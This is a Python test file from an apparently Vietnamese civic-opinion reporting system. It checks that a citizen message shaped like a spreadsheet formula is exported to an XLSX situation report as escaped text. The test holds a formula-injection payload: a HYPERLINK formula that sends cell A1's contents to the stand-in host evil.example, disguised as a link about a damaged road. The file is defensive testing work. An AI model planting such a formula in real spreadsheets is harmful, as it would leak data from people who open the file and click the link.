"""A citizen's message quoted in the situation report is text in the XLSX, never a formula."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

from openpyxl import load_workbook  # type: ignore[import-untyped]

from danvan.kernel import clock
from danvan.kernel.db import Database
from danvan.kernel.settings import Settings
from danvan.opinion.report import do_situation_report
from danvan.opinion.rollups import run_rollups

NOV = datetime(2026, 11, 2, 3, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Bấm vào đây xem đường thôn bị hỏng")'


def test_a_quoted_message_that_looks_like_a_formula_is_text_in_the_xlsx(
    database: Database, settings: Settings, personas, write
) -> None:
    for i in range(3):
        write(EVIL, at=NOV + timedelta(days=i), commune=2302, topic="roads")
    run_rollups(database, settings, clock.now())
    with database.session() as session:
        data, _name = do_situation_report(
            session,
            actor=personas.admin.actor,
            province_code=settings.province,
            tz_name=settings.timezone,
            period="2026-11",
            fmt="xlsx",
        )
    sheet = load_workbook(io.BytesIO(data))["Ý kiến tiêu biểu"]
    quoted = [c for row in sheet.iter_rows(min_row=3) for c in row if "HYPERLINK" in str(c.value)]
    assert quoted, "the message is quoted"
    for cell in quoted:
        assert cell.data_type == "s"
        assert not str(cell.value).startswith("=")
        assert str(cell.value).startswith("'=HYPERLINK(")
